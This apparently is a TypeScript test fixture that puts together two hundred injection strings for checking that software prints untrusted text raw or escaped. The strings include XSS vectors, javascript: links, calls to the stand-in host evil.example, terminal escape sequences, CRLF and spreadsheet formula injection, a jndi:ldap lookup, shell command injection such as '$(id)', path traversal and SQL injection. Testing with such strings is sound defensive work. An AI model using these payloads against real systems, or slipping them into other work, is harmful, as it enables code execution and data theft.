/*
 * Two hundred texts that something would take for more than text: a browser, a terminal, a spreadsheet, a template, a log,
 * a table. Each is used as it is and must come out as it is, or shown escaped.
 */

const mark = 'window.vigieAttacked=1';

const html = [
  `<script>${mark}</script>`,
  `<ScRiPt>${mark}</sCrIpT>`,
  `<script src=data:text/javascript,${mark}></script>`,
  `</script><script>${mark}</script>`,
  `<img src=x onerror=${mark}>`,
  `<IMG SRC=x OnErRoR=${mark}>`,
  `<img/src=x/onerror=${mark}>`,
  `<img src="x" onerror="${mark}">`,
  `"><img src=x onerror=${mark}>`,
  `'><img src=x onerror=${mark}>`,
  `</title><img src=x onerror=${mark}>`,
  `</textarea><img src=x onerror=${mark}>`,
  `</style><img src=x onerror=${mark}>`,
  `--><img src=x onerror=${mark}>`,
  `]]><img src=x onerror=${mark}>`,
  `<svg onload=${mark}>`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><animate onbegin=${mark} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${mark}"><text y=9>x</text></a></svg>`,
  `<math><mi xlink:href="data:x,<script>${mark}</script>">`,
  `<body onload=${mark}>`,
  `<iframe src="javascript:${mark}">`,
  `<iframe srcdoc="<script>parent.${mark}</script>">`,
  `<object data="data:text/html,<script>${mark}</script>">`,
  `<embed src="javascript:${mark}">`,
  `<details open ontoggle=${mark}>`,
  `<input autofocus onfocus=${mark}>`,
  `<video><source onerror=${mark}>`,
  `<marquee onstart=${mark}>`,
  `<form action="javascript:${mark}"><button>x`,
  `<a href="javascript:${mark}">x</a>`,
  `<a href="\u0001javascript:${mark}">x</a>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${mark}">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<x onclick=${mark}>x`,
  `&lt;img src=x onerror=${mark}&gt;`,
  `&#60;script&#62;${mark}`,
  `\\u003cimg src=x onerror=${mark}\\u003e`,
  `%3Cimg%20src=x%20onerror=${mark}%3E`,
];
const links = [
  `javascript:${mark}`,
  `JaVaScRiPt:${mark}`,
  `java\tscript:${mark}`,
  ` javascript:${mark}`,
  `javascript://%0a${mark}`,
  `data:text/html,<script>${mark}</script>`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `file:///etc/passwd`,
  `blob:null/x`,
  `view-source:javascript:${mark}`,
  `[x](javascript:${mark})`,
  `![x](x "onerror=${mark}")`,
];
const directions = [
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u200f',
  '\u200e',
  '\u061c',
  '\u202a',
  '\u202b',
  '\u200b',
  '\ufeff',
  '\u2028',
  '\u2029',
  '\u00ad',
].map((character) => `a${character}gpj.exe`);
const terminal = [
  '\u001b[31mred\u001b[0m',
  '\u001b[2J\u001b[H',
  '\u001b[1A\u001b[2K',
  '\u001b]0;title\u0007',
  '\u001b]8;;http://evil.example\u001b\\x\u001b]8;;\u001b\\',
  '\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001bP+q544e\u001b\\',
  '\u001b[6n',
  '\u001b[?1049h',
  '\u001bc',
  '\u009b31m',
  '\u009d8;;x\u009c',
  '\u0007\u0008\u0008',
  'a\u007fb',
  '\u000e\u000f',
  'a\tb',
  'a\u000bb\u000cc',
  'a\u0085b',
];
const lines = [
  'a\r\nSet-Cookie: x=y',
  'a\nb',
  'a\rb',
  'a\r\n\r\n<html>',
  '\n[ERROR] forged line',
  'a\n{"level":"info"}',
  '"}\n{"a":"',
  'a\\nb',
  '%0d%0aX: y',
  'end\n',
];
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example","x")',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1',
  '=IMPORTXML("http://evil.example","//a")',
  '+cmd',
  '@x',
  "-2+3+cmd|'x'!A0",
  '\n=1+1',
  '＝1+1',
  ',=1+1',
  ';=1+1',
  '|=1+1',
];
const templates = [
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the text that is tried.
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% debug %}',
  '{{constructor.constructor("x")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the text that is tried.
  '${jndi:ldap://evil.example/a}',
  '{{=1}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the text that is tried.
  '[[${7*7}]]',
  '%s%s%s%n',
  '%x%d',
  '{0}',
  '{name}',
  '{host}',
  '$1$&$`',
  '__proto__',
  'constructor',
  'toString',
  '<!--#exec cmd="id"-->',
  '<?php echo 7; ?>',
];
const shell = [
  '$(id)',
  '`id`',
  '; id',
  '| id',
  '&& id',
  '-rf',
  '--help',
  "'; id; '",
  '"; id; "',
  '../../etc/passwd',
  '~',
  '*',
  '$HOME',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the text that is tried.
  '${IFS}',
  '\\',
];
const shapes = [
  '\ud83d\ude00',
  'a\u0301'.repeat(40),
  'Z̷̢͗a̸l̴g̵o̶',
  '\u0e49'.repeat(60),
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '0',
  ' ',
  '  a  ',
  '日本語',
  'ﷺ'.repeat(20),
  '\u{e0041}',
  '\ufffd',
  "' or '1'='1",
  '"; drop table token; --',
  'x'.repeat(5_000),
  '<b>'.repeat(1_000),
  '\u202e'.repeat(500),
  'a '.repeat(2_000),
];

const known = [...html, ...links, ...directions, ...terminal, ...lines, ...formulas, ...templates, ...shell, ...shapes];
/** What is missing to two hundred: the same attack behind what a table may cut it at. */
const behind = html.slice(0, 200 - known.length).map((text) => `${'n'.repeat(16)} ${text}`);

export const payloads: readonly string[] = [...known, ...behind].slice(0, 200);

/** A payload as the name of one file: it cannot hold a slash, and no more than 255 bytes. */
export function asFileName(payload: string, most = 200): string {
  let name = payload.replaceAll('/', '\u2215');
  while (Buffer.byteLength(name) > most) {
    name = name.slice(0, Math.floor(name.length * 0.9));
  }
  return name === '.' || name === '..' ? `${name}_` : name;
}
